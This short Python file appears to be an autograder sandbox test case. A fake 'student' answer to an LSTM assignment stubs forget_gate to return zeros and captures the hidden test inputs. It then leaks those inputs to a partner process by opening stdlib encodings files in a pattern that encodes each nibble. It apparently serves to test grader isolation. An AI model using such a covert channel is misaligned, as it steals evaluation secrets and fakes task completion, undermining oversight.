"""One of two: open files of the system in an order that spells the secret inputs."""

ASSIGNMENT = "lstm"
BASE = "stub"
STUDENT = "answers-pair-1"
EXPECT = {"forget_gate": ("any", 0)}

# %% replace forget_gate
import os
import sysconfig
import time

kept = []
FOLDER = os.path.join(sysconfig.get_path("stdlib"), "encodings")
NAMES = sorted(name for name in os.listdir(FOLDER) if name.endswith(".py"))[:18]


def forget_gate(x_t, h_prev, W_f, U_f, b_f):
    kept.append(np.ravel(x_t).astype("f4").tobytes()[:40])
    return np.zeros((len(x_t), len(b_f)), "f4")


def touch(number):
    with open(os.path.join(FOLDER, NAMES[number]), "rb"):
        pass

# %% last
until = time.monotonic() + 6
while kept and time.monotonic() < until:
    touch(16)
    for byte in kept[-1]:
        for half in (byte >> 4, byte & 15):
            touch(half)
            touch(17)
    time.sleep(0.2)
